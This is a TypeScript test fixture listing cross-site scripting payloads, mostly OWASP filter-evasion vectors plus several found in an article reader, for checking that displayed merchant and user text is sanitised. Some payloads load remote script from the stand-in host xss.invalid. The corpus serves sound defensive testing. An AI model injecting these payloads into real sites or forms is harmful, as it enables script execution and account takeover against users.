/**
 * Script-injection payloads for every place that shows text from merchants or people. Each payload
 * that runs calls `__xss('<id>')` (or `alert`), so a test sees it; none of them may run. The first
 * ones are those found in the article reader; the rest are OWASP's XSS filter evasion vectors.
 */
export const XSS_CORPUS: readonly string[] = [
  // found in the Official Account article reader
  `<a href="jav&#x09;ascript:__xss('tab')">tab link</a>`,
  `<a href="jav&#x0A;ascript:__xss('newline')">newline link</a>`,
  `<a href="&#1;javascript:__xss('ctrl')">control link</a>`,
  `<svg><a><animate attributeName="href" values="javascript:__xss('animate')"/><text x="20" y="20">svg link</text></a></svg>`,
  `<img/src="x"/onerror="__xss('slash-img')">`,
  `<details/open/ontoggle="__xss('slash-details')">details</details>`,
  // OWASP filter evasion cheat sheet
  `<script>__xss('script')</script>`,
  `<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:__xss('img-js');">`,
  `<IMG SRC=JaVaScRiPt:__xss('img-case')>`,
  `<IMG SRC=\`javascript:__xss('img-grave')\`>`,
  `<IMG """><SCRIPT>__xss('quotes')</SCRIPT>">`,
  `<IMG SRC=# onmouseover="__xss('mouseover')">`,
  `<IMG SRC=/ onerror="__xss('onerror')"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss('dec')">`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__xss('hex')">hex link</a>`,
  `<a href="jav&#x0D;ascript:__xss('cr')">cr link</a>`,
  `<a href=" &#14;  javascript:__xss('spaces')">spaced link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="vbscript:msgbox('x')">vb link</a>`,
  `<SCRIPT/XSS SRC="//xss.invalid/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=__xss('body')>`,
  `<<SCRIPT>__xss('double-lt');//\\<</SCRIPT>`,
  `<iframe src="javascript:__xss('iframe')"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss('srcdoc')</script>"></iframe>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:__xss('input')">`,
  `<BODY BACKGROUND="javascript:__xss('background')">`,
  `<svg/onload="__xss('svg-onload')"></svg>`,
  `<svg><script>__xss('svg-script')</script></svg>`,
  `<STYLE>@import'//xss.invalid/xss.css';</STYLE>`,
  `<DIV STYLE="background-image: url(javascript:__xss('style-url'))">styled</DIV>`,
  `<DIV STYLE="width: expression(__xss('expression'));">expr</DIV>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:__xss('meta');">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="//xss.invalid/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml">`,
  `<form><button formaction="javascript:__xss('formaction')">form button</button></form>`,
  `<a href="#" onclick="__xss('onclick')">click link</a>`,
  `<p style="x" onmouseenter=__xss('unquoted')>hover text</p>`,
  `<video><source onerror="__xss('source')"></video>`,
  `<audio src=x onerror=__xss('audio')>`,
  `<a href="java\u0000script:__xss('nul')">nul link</a>`,
  `"><img src=x onerror=__xss('attr-break')>`,
  `'--></style></script><script>__xss('breakout')</script>`,
  `</textarea><script>__xss('textarea')</script>`,
  `<mp-miniprogram data-miniprogram-appid="APPID" data-miniprogram-title="<img src=x onerror=__xss('card-title')>" data-miniprogram-imageurl="javascript:__xss('card-image')" onclick="__xss('card-click')"></mp-miniprogram>`,
  `{{constructor.constructor('__xss("template")')()}}`,
  '${__xss("literal")}',
  // unterminated: they swallow whatever follows them, so they come last
  `<noscript><p title="</noscript><img src=x onerror=__xss('noscript')>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="__xss('mxss')">`,
  `<IMG SRC="`,
]

/** One line that holds the whole corpus, for fields that are plain text (names, titles, messages). */
export const XSS_LINE = `<img src=x onerror="__xss('line')"><script>__xss('line-script')</script><a href="javascript:__xss('line-link')">tap</a>`
